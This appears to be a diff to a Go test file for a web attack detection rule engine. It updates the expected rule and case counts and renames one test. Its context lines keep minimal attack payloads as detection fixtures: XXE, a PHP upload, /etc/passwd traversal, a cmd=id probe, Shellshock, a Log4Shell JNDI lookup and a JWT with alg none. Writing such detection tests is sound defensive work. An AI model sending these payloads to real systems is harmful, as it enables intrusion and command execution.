@@ -11,9 +11,9 @@ import (
 
 // What the rules' files hold; a case that is lost would not be missed otherwise.
 const (
-	wantRules    = 63
-	wantPositive = 296
-	wantNegative = 163
+	wantRules    = 80
+	wantPositive = 391
+	wantNegative = 210
 )
 
 func TestCases(t *testing.T) {
@@ -106,7 +106,7 @@ func TestParts(t *testing.T) {
 	f("xxe", Body, AsIs, 0, body("text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>`))
 	f("upload-code", Filename, AsIs, 0, body("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--b--\r\n"))
 	f("path-traversal", Path, AsIs, 0, &event.Event{Path: []byte("/a/../../../etc/passwd")})
-	f("probe-path", URI, AsIs, 0, &event.Event{Path: []byte("/x"), Query: []byte("cmd=id")})
+	f("probe-query", URI, AsIs, 0, &event.Event{Path: []byte("/x"), Query: []byte("cmd=id")})
 	f("shellshock", Header, AsIs, 0, header("User-Agent", "() { :;}; id"))
 	f("log4shell", Header, AsIs, 0, header("X-Api-Version", "${jndi:ldap://x.test/a}"))
 	f("jwt-algorithm", Token, AsIs, 0, &event.Event{Path: []byte("/a"), Identity: event.Identity{TokenHeader: []byte(`{"alg":"none"}`)}})
